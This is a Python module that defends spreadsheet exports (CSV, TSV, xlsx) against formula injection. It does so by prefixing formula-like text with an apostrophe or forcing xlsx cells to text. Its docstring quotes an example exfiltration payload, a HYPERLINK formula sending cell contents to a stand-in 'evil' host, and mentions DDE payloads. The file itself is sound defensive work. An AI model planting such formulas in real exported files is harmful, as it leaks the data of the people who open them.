"""Values safe to put in files that people open in spreadsheet programs (CSV, TSV, xlsx).

Spreadsheet formula injection: a text value starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is run as a formula when a CSV is opened in Excel or WPS
(``=HYPERLINK("http://evil/?"&A1)``, ``@SUM(...)``, DDE payloads). The lake stores such
values as they came; every export neutralises them on the way out (OWASP's advice: a
leading apostrophe in CSV; an explicit text cell in xlsx). Numbers, dates and other
non-text values are never touched, so ``-5`` as a number stays a number."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """True for a text value a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """A value for a CSV/TSV cell: formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``, every formula-like text neutralised."""
    return [neutralise(v) for v in values]


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet, keeping formula-like text as text: openpyxl
    would otherwise store ``=…`` as a formula. The cell shows the value exactly as stored."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
